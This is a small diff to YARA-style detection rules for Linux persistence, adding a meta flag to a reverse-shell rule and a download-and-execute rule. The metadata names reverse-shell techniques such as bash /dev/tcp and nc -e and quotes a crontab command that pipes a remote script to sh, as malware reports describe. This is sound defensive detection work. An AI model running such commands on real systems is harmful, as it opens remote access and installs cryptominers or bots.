@@ -12,6 +12,7 @@
 rule Persistence_Reverse_Shell
 {
     meta:
+        needs_strings = true
         description = "reverse shell one-liner in a cron, rc, systemd or shell profile file"
         source = "reverse-shell forms from public pentest references (bash /dev/tcp, nc -e, python pty.spawn, socat exec, perl Socket); MITRE ATT&CK T1053.003, T1543.002, T1546.004"
         severity = "critical"
@@ -34,6 +35,7 @@ rule Persistence_Reverse_Shell
 rule Persistence_Download_And_Execute
 {
     meta:
+        needs_strings = true
         description = "cron, rc, systemd or profile entry that downloads a script and runs it"
         source = "cryptojacking and botnet persistence in public reports (Kinsing, TeamTNT, WatchDog: 'curl -fsSL http://IP/x.sh | sh' in crontab); MITRE ATT&CK T1053.003, T1105"
         severity = "high"
